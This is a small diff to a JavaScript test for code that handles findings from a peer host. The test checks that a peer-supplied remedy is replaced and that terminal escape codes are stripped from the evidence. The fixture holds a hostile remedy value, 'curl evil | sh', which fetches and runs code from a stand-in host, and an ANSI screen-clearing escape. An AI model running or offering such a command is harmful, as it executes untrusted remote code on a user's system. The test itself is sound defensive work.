@@ -83,7 +83,10 @@ describe('what else a peer says', () => {
   it('of a finding: the remedy is ours, and its words cannot steer a terminal', () => {
     const sent = { code: 'CONFLICT_IP', blocks: true, host: 'x', evidence: 'a\u001b[2Jb' };
     const [found] = findingsFromPeer([{ ...sent, remedy: 'curl evil | sh' }], 'hostb');
-    expect(found).toMatchObject({ host: 'hostb', remedy: 'free the address on the target' });
+    expect(found).toMatchObject({
+      host: 'hostb',
+      remedy: expect.stringMatching('free the address on the target'),
+    });
     expect(found?.evidence).not.toContain('\u001b');
   });
 
